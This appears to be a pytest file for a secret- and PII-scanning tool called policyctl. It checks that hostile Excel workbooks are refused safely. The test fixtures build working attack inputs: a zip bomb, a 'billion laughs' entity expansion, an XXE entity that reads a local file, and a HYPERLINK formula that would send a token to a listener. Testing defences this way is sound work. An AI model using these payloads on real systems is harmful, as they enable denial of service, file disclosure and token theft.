"""Hostile workbooks: zip bombs, XML entities, huge dimensions, thousands of sheets, a
workbook that is no zip, formulas that would reach out if evaluated. Each ends as one
notice naming the file, in bounded time and memory, and the rest of the scan goes on."""

from __future__ import annotations

import http.server
import json
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any, ClassVar

import pytest

from tests import fakes
from tests import pii_samples as pii
from tests.conftest import POLICYCTL, RunPolicyctl, assert_no_secret_in

pytest.importorskip("openpyxl")

MIB = 1 << 20
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
BOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
BESIDE = pii.email(7)
"""A value in an ordinary log beside the hostile workbook: the scan must still find it."""


@pytest.fixture(autouse=True, scope="module")
def _rules_compiled(tmp_path_factory: pytest.TempPathFactory) -> None:
    """The timings below measure reading a workbook, not compiling the rules for tables
    once per test session: one scan of a small table first."""
    folder = tmp_path_factory.mktemp("warm")
    (folder / "t.csv").write_text("token\nnone\n", encoding="utf-8")
    subprocess.run(
        [POLICYCTL, "scan", folder, "-q", "--time-budget", "0"], capture_output=True, timeout=600
    )


def sheet_xml(cells: Sequence[tuple[str, str]], prolog: str = "", dimension: str = "") -> str:
    """A worksheet whose cells (reference, inline text) are each on the row their reference
    names; `prolog` goes before the root element (a DOCTYPE)."""
    rows: dict[int, list[str]] = {}
    for reference, text in cells:
        number = int("".join(c for c in reference if c.isdigit()))
        rows.setdefault(number, []).append(
            f'<c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c>'
        )
    body = "".join(f'<row r="{n}">{"".join(cs)}</row>' for n, cs in sorted(rows.items()))
    size = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0"?>{prolog}<worksheet xmlns="{MAIN}">{size}'
        f"<sheetData>{body}</sheetData></worksheet>"
    )


def write_workbook(
    path: Path, sheets: Sequence[tuple[str, str]], extra: Sequence[tuple[str, bytes]] = ()
) -> Path:
    """A minimal workbook written part by part, as an attacker would write one."""
    types = [
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        f'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{BOOK_TYPE}"/>'
    ]
    listed, links = [], []
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for number, (name, xml) in enumerate(sheets, 1):
            part = f"worksheets/sheet{number}.xml"
            types.append(f'<Override PartName="/xl/{part}" ContentType="{SHEET_TYPE}"/>')
            listed.append(f'<sheet name="{name}" sheetId="{number}" r:id="rId{number}"/>')
            links.append(
                f'<Relationship Id="rId{number}" Type="{RELS}/worksheet" Target="{part}"/>'
            )
            archive.writestr(f"xl/{part}", xml)
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
            f'2006/content-types">{"".join(types)}</Types>',
        )
        archive.writestr(
            "_rels/.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE_RELS}"><Relationship '
            f'Id="rId1" Type="{RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0"?><workbook xmlns="{MAIN}" xmlns:r="{RELS}"><sheets>'
            f"{''.join(listed)}</sheets></workbook>",
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE_RELS}">{"".join(links)}'
            "</Relationships>",
        )
        for name, data in extra:
            archive.writestr(name, data)
    return path


def beside_log(folder: Path) -> None:
    (folder / "app.log").write_text(f"signup {BESIDE}\n", encoding="utf-8")


def scan_folder(folder: Path, *options: str, timeout: float = 120) -> tuple[Any, float, int]:
    """Scan `folder` with the installed command: (JSON report, seconds, peak RSS in MiB of
    the command and its workers)."""
    probe = (
        "import resource, subprocess, sys\n"
        "done = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
        "peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss\n"
        "print(peak); print(done.returncode); sys.stdout.write(done.stdout)\n"
    )
    started = time.monotonic()
    completed = subprocess.run(
        [sys.executable, "-c", probe, POLICYCTL, "scan", folder, "-f", "json", *options],
        capture_output=True,
        text=True,
        timeout=timeout,
    )
    seconds = time.monotonic() - started
    peak, code, report = completed.stdout.split("\n", 2)
    result = json.loads(report)
    result["exit_code"] = int(code)
    return result, seconds, int(peak) // 1024


def notices(report: Any) -> dict[str, tuple[str, str]]:
    return {n["path"]: (n["message"], n["level"]) for n in report["notices"]}


def found_paths(report: Any) -> set[str]:
    return {f["location"]["path"] for f in report["findings"]}


def test_a_zip_bomb_part_is_refused_before_it_is_inflated(tmp_path: Path) -> None:
    # 256 MiB of shared strings in about 250 KiB: inflating it would show in memory
    bomb = b"<sst>" + b" " * (256 * MIB) + b"</sst>"
    sheet = sheet_xml([("A1", "token"), ("A2", "x")])
    write_workbook(tmp_path / "bomb.xlsx", [("S", sheet)], [("xl/sharedStrings.xml", bomb)])
    del bomb
    beside_log(tmp_path)
    report, seconds, peak = scan_folder(tmp_path)
    message, level = notices(report)["bomb.xlsx"]
    assert message == (
        "skipped: part xl/sharedStrings.xml expands more than 100 times its compressed "
        "size (a zip bomb?)"
    )
    assert level == "error" and report["exit_code"] == 2  # unread: the scan is incomplete
    assert found_paths(report) == {"app.log"}
    assert seconds < 60 and peak < 200


def test_billion_laughs_entities_in_sheet_xml_are_refused(tmp_path: Path) -> None:
    levels = ['<!ENTITY l0 "lol">'] + [
        f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10}">' for n in range(1, 10)
    ]
    prolog = f"<!DOCTYPE worksheet [{''.join(levels)}]>"
    sheet = sheet_xml([("A1", "note"), ("A2", "&l9;")], prolog=prolog)
    write_workbook(tmp_path / "lol.xlsx", [("S", sheet)])
    beside_log(tmp_path)
    report, seconds, peak = scan_folder(tmp_path)
    message, level = notices(report)["lol.xlsx"]
    assert "declares entities or external references, which are never read" in message
    assert level == "error"
    assert found_paths(report) == {"app.log"}
    assert seconds < 60 and peak < 300


def test_an_external_entity_in_sheet_xml_is_never_resolved(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    planted = fakes.aws_access_key_id("xxe")
    (outside / "secret.txt").write_text(planted, encoding="utf-8")
    data = tmp_path / "data"
    data.mkdir()
    prolog = f'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file://{outside}/secret.txt">]>'
    sheet = sheet_xml([("A1", "token"), ("A2", "&x;")], prolog=prolog)
    write_workbook(data / "xxe.xlsx", [("S", sheet)])
    beside_log(data)
    report, _seconds, _peak = scan_folder(data)
    message, _level = notices(report)["xxe.xlsx"]
    assert "declares entities or external references" in message
    assert found_paths(report) == {"app.log"}  # the file the entity names was not read


def test_a_huge_declared_dimension_costs_nothing(tmp_path: Path) -> None:
    far = fakes.github_pat("far-cell")
    cells = [("A1", "token"), ("A2", fakes.github_pat("near-cell")), ("XFD1048576", far)]
    sheet = sheet_xml(cells, dimension="A1:XFD1048576")  # 17 billion cells, declared
    write_workbook(tmp_path / "wide.xlsx", [("S", sheet)])
    report, seconds, peak = scan_folder(tmp_path)
    places = sorted((f["location"]["line"], f["location"]["field"]) for f in report["findings"])
    assert places == [(2, "S!token"), (1048576, "S!column XFD")]
    assert report["notices"] == [] or all(n["path"] != "wide.xlsx" for n in report["notices"])
    assert seconds < 60 and peak < 300


def test_thousands_of_sheets_are_read_up_to_the_limit_and_the_rest_reported(
    tmp_path: Path,
) -> None:
    token = fakes.aws_access_key_id("sheet5")
    sheets = [
        (f"S{n}", sheet_xml([("A1", "token"), ("A2", token if n == 5 else "none")]))
        for n in range(1, 3001)
    ]
    write_workbook(tmp_path / "many.xlsx", sheets)
    beside_log(tmp_path)
    report, seconds, peak = scan_folder(tmp_path)
    message, level = notices(report)["many.xlsx"]
    assert message == "only the first 1,000 of its 3,000 sheets read (the limit per workbook)"
    assert level == "error" and report["exit_code"] == 2
    fields = {(f["location"]["path"], f["location"].get("field")) for f in report["findings"]}
    assert ("many.xlsx", "S5!token") in fields
    assert "app.log" in found_paths(report)
    assert seconds < 90 and peak < 400


def test_a_file_named_xlsx_that_is_no_zip_is_a_warning_and_the_scan_goes_on(
    tmp_path: Path,
) -> None:
    (tmp_path / "export.xlsx").write_text("name,token\nx,not a workbook\n", encoding="utf-8")
    beside_log(tmp_path)
    report, _seconds, _peak = scan_folder(tmp_path)
    assert notices(report)["export.xlsx"] == (
        "skipped: not an Excel workbook (not a zip archive)",
        "warning",
    )
    assert found_paths(report) == {"app.log"}
    assert report["exit_code"] == 0  # e-mail addresses in logs warn; nothing unread


class _Counter(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Counter.hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[str]:
    """A local HTTP server that records every request: a formula that reaches it was run."""
    _Counter.hits = []
    server = http.server.HTTPServer(("127.0.0.1", 0), _Counter)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_formulas_are_scanned_as_text_and_never_evaluated(
    tmp_path: Path, listener: str, run_policyctl: RunPolicyctl
) -> None:
    import openpyxl

    token = fakes.github_pat("formula")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["link", "fetch"])
    sheet.append([f'=HYPERLINK("{listener}/a?t={token}","x")', f'=WEBSERVICE("{listener}/b")'])
    book.save(tmp_path / "links.xlsx")
    scanned = run_policyctl("scan", tmp_path / "links.xlsx", "-f", "json", "--no-progress")
    redacted = run_policyctl("redact", tmp_path / "links.xlsx", "-o", tmp_path / "out.xlsx")
    (finding,) = scanned.json()["findings"]
    assert (finding["rule_id"], finding["location"]["field"]) == (
        "secret.github-pat-classic",
        "Sheet!link",
    )
    assert redacted.code == 0
    copy = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    assert copy["B2"].value == f'=WEBSERVICE("{listener}/b")'
    assert token not in str(copy["A2"].value)
    assert _Counter.hits == []
    assert_no_secret_in([scanned.out, scanned.err, redacted.out, redacted.err], [token])


def test_redact_refuses_a_zip_bomb_workbook_and_writes_no_copy(
    tmp_path: Path, policyctl_in_process: RunPolicyctl
) -> None:
    bomb = b"<sst>" + b" " * (64 * MIB) + b"</sst>"
    sheet = sheet_xml([("A1", "email"), ("A2", pii.email(3))])
    write_workbook(tmp_path / "bomb.xlsx", [("S", sheet)], [("xl/sharedStrings.xml", bomb)])
    result = policyctl_in_process("redact", tmp_path / "bomb.xlsx", "-o", tmp_path / "out.xlsx")
    assert "expands more than 100 times its compressed size (a zip bomb?)" in result.err
    assert "no copy written" in result.err
    assert not (tmp_path / "out.xlsx").exists()
